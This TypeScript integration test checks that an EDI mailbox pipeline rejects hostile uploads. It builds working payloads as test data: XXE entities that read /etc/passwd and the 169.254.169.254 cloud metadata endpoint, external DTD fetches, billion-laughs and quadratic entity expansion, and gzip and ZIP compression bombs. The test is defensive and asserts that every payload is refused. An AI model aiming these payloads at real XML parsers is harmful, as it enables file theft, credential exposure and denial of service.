// Hostile files in the SPS mailbox, through the real pipeline (sandbox mailbox → poll → D1 → queue):
// XXE, entity expansion, a 50 MB file, deep nesting, invalid UTF-8, compression bombs named .xml, and
// files built to exhaust memory or fan out into thousands of documents. Each ends `invalid` with a
// reason an operator can act on, is read once and consumed (no crash-and-retry loop), costs at most
// the bounded download, and a normal order dropped alongside still becomes a sales order.
import { env } from "cloudflare:test";
import { beforeAll, describe, expect, it } from "vitest";
import { api } from "../helpers/api";
import { drop, fixtureXml, mailbox, pollNow, salesOrders, waitForSettled, withPo } from "../helpers/flow";
import { acumaticaCounters, createWorld, spsCounters, type World } from "../helpers/world";
import { control, createAcumaticaInstance, SPS_DATA, spsToken } from "../sandbox/sandbox-control";

const MB = 1024 * 1024;
const FIFTY_MB = 50 * MB;
const INFLATED = 200 * MB;

function toBase64(bytes: Uint8Array): string {
  let binary = "";
  for (let i = 0; i < bytes.length; i += 0x8000) binary += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
  return btoa(binary);
}

async function dropBytes(world: World, path: string, bytes: Uint8Array): Promise<void> {
  const res = await control("POST", `/sps/accounts/${encodeURIComponent(world.sps.clientId)}/files`, { path, content: toBase64(bytes), encoding: "base64" });
  if (res.status !== 201) throw new Error(`drop ${path}: ${res.status} ${JSON.stringify(res.json)}`);
}

/** Compresses `total` bytes of a repeated chunk without ever holding them: a compression bomb. */
async function compressRepeated(format: "gzip" | "deflate-raw", chunk: Uint8Array, total: number): Promise<Uint8Array> {
  const stream = new CompressionStream(format);
  const writer = stream.writable.getWriter();
  const out = new Response(stream.readable).arrayBuffer();
  for (let written = 0; written < total; written += chunk.byteLength) await writer.write(chunk);
  await writer.close();
  return new Uint8Array(await out);
}

/** A ZIP local file entry (deflate) named order.xml around already-deflated data; never meant to be opened. */
function zipEntry(deflated: Uint8Array, inflatedSize: number): Uint8Array {
  const name = new TextEncoder().encode("order.xml");
  const header = new DataView(new ArrayBuffer(30));
  header.setUint32(0, 0x04034b50, true);
  header.setUint16(4, 20, true);
  header.setUint16(8, 8, true);
  header.setUint32(18, deflated.byteLength, true);
  header.setUint32(22, inflatedSize >>> 0, true);
  header.setUint16(26, name.byteLength, true);
  const out = new Uint8Array(30 + name.byteLength + deflated.byteLength);
  out.set(new Uint8Array(header.buffer), 0);
  out.set(name, 30);
  out.set(deflated, 30 + name.byteLength);
  return out;
}

/**
 * Uploads a file of `total` bytes through the SPS Transaction API, as a trading partner's system
 * would, streaming a repeated chunk so the 50 MB never exist in the test.
 */
async function uploadStreamed(world: World, path: string, head: string, chunk: string, total: number): Promise<void> {
  const token = await spsToken(world.sps);
  const first = new TextEncoder().encode(head);
  const body = new TextEncoder().encode(chunk);
  let sent = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent === 0) {
        controller.enqueue(first);
        sent += first.byteLength;
        return;
      }
      if (sent >= total) {
        controller.close();
        return;
      }
      const part = body.subarray(0, Math.min(body.byteLength, total - sent)).slice();
      controller.enqueue(part);
      sent += part.byteLength;
    },
  });
  const res = await fetch(`${SPS_DATA}/${path}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/octet-stream" },
    body: stream,
  });
  if (res.status !== 201) throw new Error(`upload ${path}: ${res.status} ${await res.text()}`);
}

const oneOrder = (inner: string) =>
  `<?xml version="1.0" encoding="utf-8"?>\n${inner}<Orders><Order><Header><OrderHeader><TradingPartnerId>NWHALLNORTHWND</TradingPartnerId><PurchaseOrderNumber>HOSTILE</PurchaseOrderNumber></OrderHeader></Header></Order></Orders>`;

interface Case {
  file: string;
  reason: RegExp;
}

describe("hostile documents in the mailbox", () => {
  let world: World;
  let canaryHost: string;
  let docs: any[];
  const goodPo = `HOSTILE-OK-${crypto.randomUUID().slice(0, 6)}`;
  const cases: Case[] = [];
  let zipBombSize = 0;

  beforeAll(async () => {
    world = await createWorld();
    const canary = await createAcumaticaInstance();
    canaryHost = canary.host;
    const add = async (file: string, reason: RegExp, content: string | Uint8Array) => {
      cases.push({ file, reason });
      if (typeof content === "string") await drop(world, `out/PO/${file}`, content);
      else await dropBytes(world, `out/PO/${file}`, content);
    };

    // XXE: external entities (a local file, the cloud metadata address, a host the sandbox counts) and an external DTD.
    await add(
      "xxe.xml",
      /^DTDs are not accepted/,
      oneOrder(`<!DOCTYPE Orders [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/"><!ENTITY canary SYSTEM "${canary.base}/identity/connect/token">]>\n`).replace(
        "<PurchaseOrderNumber>HOSTILE</PurchaseOrderNumber>",
        "<PurchaseOrderNumber>&file;&meta;&canary;</PurchaseOrderNumber>",
      ),
    );
    await add("xxe-external-dtd.xml", /^DTDs are not accepted/, oneOrder(`<!DOCTYPE Orders SYSTEM "${canary.base}/evil.dtd">\n`));
    await add("xxe-parameter-entity.xml", /^DTDs are not accepted/, oneOrder(`<!DOCTYPE Orders [<!ENTITY % remote SYSTEM "${canary.base}/p.dtd"> %remote;]>\n`));
    // Entity expansion: the billion laughs (10^9 "lol"s from 1 KB) and a quadratic blow-up.
    const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
    await add("billion-laughs.xml", /^DTDs are not accepted/, oneOrder(`<!DOCTYPE Orders [<!ENTITY lol0 "lol">${laughs}]>\n`).replace(">HOSTILE<", ">&lol9;<"));
    await add("quadratic-blowup.xml", /^DTDs are not accepted/, oneOrder(`<!DOCTYPE Orders [<!ENTITY a "${"x".repeat(50_000)}">]>\n`).replace(">HOSTILE<", `>${"&a;".repeat(10_000)}<`));
    // Deep nesting, in XML and in JSON.
    await add("deep.xml", /^Elements nest deeper than 64 levels/, `<Orders>${"<Order>".repeat(100_000)}`);
    await add("deep.json", /^Objects nest deeper than 64 levels/, `${"[".repeat(100_000)}${"]".repeat(100_000)}`);
    // Invalid UTF-8 in an otherwise valid order (an overlong "/" and a lone continuation byte).
    const valid = new TextEncoder().encode(withPo(fixtureXml.BulkImport, "HOSTILE-UTF8"));
    const at = 400;
    await add("bad-utf8.xml", /^The file is not valid UTF-8 text \(first bad byte at offset 400\)/, new Uint8Array([...valid.subarray(0, at), 0xc0, 0xaf, 0x80, ...valid.subarray(at)]));
    // Compression bombs named .xml: 200 MB of XML-looking text as gzip and as a ZIP entry.
    const xmlish = new TextEncoder().encode("<LineItem><OrderLine><OrderQty>1</OrderQty></OrderLine></LineItem>".repeat(16_000).slice(0, MB));
    const gz = await compressRepeated("gzip", xmlish, INFLATED);
    zipBombSize = gz.byteLength;
    await add("zip-bomb.xml", /^The file is gzip-compressed, not text; .*does not decompress/, gz);
    await add("zip-bomb-archive.xml", /^The file is a ZIP archive, not text; .*does not decompress/, zipEntry(await compressRepeated("deflate-raw", xmlish, INFLATED), INFLATED));
    // Built to exhaust memory or fan out: 160k tiny elements in 2.6 MB; 600 orders in one file; 200k JSON values.
    await add("element-flood.xml", /^The file has more than 150000 elements/, `<Orders><Order><Header/>${"<LineItem/>".repeat(160_000)}</Order></Orders>`);
    const tinyOrder = (i: number) => `<Order><Header><OrderHeader><TradingPartnerId>NWHALLNORTHWND</TradingPartnerId><PurchaseOrderNumber>FLOOD-${i}</PurchaseOrderNumber></OrderHeader></Header></Order>`;
    await add("order-flood.xml", /^The file holds 600 documents; the connector takes at most 500/, `<Orders>${Array.from({ length: 600 }, (_, i) => tinyOrder(i)).join("")}</Orders>`);
    await add("value-flood.json", /^The file has more than 150000 values/, `[${"0,".repeat(200_000)}0]`);
    // 50 MB, uploaded through the SPS API like a partner's system would (the control API takes JSON bodies).
    cases.push({ file: "fifty-mb.xml", reason: /^The file is larger than 16777216 bytes/ });
    await uploadStreamed(world, "out/PO/fifty-mb.xml", '<?xml version="1.0" encoding="utf-8"?><Orders><Order><Header/>', "<LineItem><OrderLine><OrderQty>1</OrderQty></OrderLine></LineItem>".repeat(15_000), FIFTY_MB);
    // And one ordinary order among them.
    await drop(world, "out/PO/zz-ordinary.xml", withPo(fixtureXml.CrossDock, goodPo));

    await pollNow(world);
    docs = await waitForSettled(world, cases.length + 1, { timeout: 90_000 });
  }, 180_000);

  it("ends each hostile file invalid with a reason an operator can read", async () => {
    const byKey = new Map(docs.map((d) => [d.naturalKey, d]));
    const failures: string[] = [];
    for (const { file, reason } of cases) {
      const doc = byKey.get(`file:out/PO/${file}`);
      if (!doc) {
        failures.push(`${file}: no document (have ${[...byKey.keys()].join(", ")})`);
        continue;
      }
      if (doc.status !== "invalid" || !reason.test(doc.statusDetail?.[0] ?? "")) failures.push(`${file}: ${doc.status} ${JSON.stringify(doc.statusDetail)}`);
    }
    expect(failures).toEqual([]);
    expect(docs.filter((d) => d.status === "invalid")).toHaveLength(cases.length);
  });

  it("still turns the ordinary order dropped alongside into a sales order", async () => {
    const ordinary = docs.find((d) => d.naturalKey === goodPo);
    expect(ordinary?.status).toBe("delivered");
    const orders = await salesOrders(world);
    expect(orders.map((o: { CustomerOrder: string }) => o.CustomerOrder)).toContain(goodPo);
  });

  it("read each file once, consumed it, and kept no more than the bounded part", async () => {
    // No crash-and-retry loop: every file was downloaded exactly once and deleted after it was recorded.
    const counters = await spsCounters(world.sps.clientId);
    expect(counters.requests["sps.get"]).toBe(cases.length + 1);
    expect(counters.requests["sps.delete"]).toBe(cases.length + 1);
    expect(await mailbox(world, "out/")).toEqual([]);
    const rawSize = async (file: string) =>
      (await env.DB.prepare("SELECT raw_size, length(raw) AS stored FROM documents WHERE tenant_id = ? AND natural_key = ?").bind(world.tenantId, `file:out/PO/${file}`).first<{ raw_size: number; stored: number }>())!;
    // The 50 MB file: only the first 16 MB were read and only 512 KB of them kept.
    const big = await rawSize("fifty-mb.xml");
    expect(big.raw_size).toBe(512 * 1024);
    expect(big.stored).toBeLessThan(64 * 1024);
    // The bomb was stored as it came, never inflated.
    expect((await rawSize("zip-bomb.xml")).raw_size).toBe(zipBombSize);
    const detail = await api("GET", `/v1/tenants/${world.tenantId}/documents/${docs.find((d) => d.naturalKey === "file:out/PO/fifty-mb.xml").id}`);
    expect(detail.body.audit[0].detail).toMatchObject({ bytes: 16 * MB, keptBytes: 512 * 1024 });
  });

  it("never resolved an external entity or DTD", async () => {
    const counters = await acumaticaCounters(canaryHost);
    expect(counters.requests).toEqual({});
    const xxe = docs.find((d) => d.naturalKey === "file:out/PO/xxe.xml");
    expect(JSON.stringify(xxe)).not.toMatch(/root:|ami-id|instance-id/);
  });
});
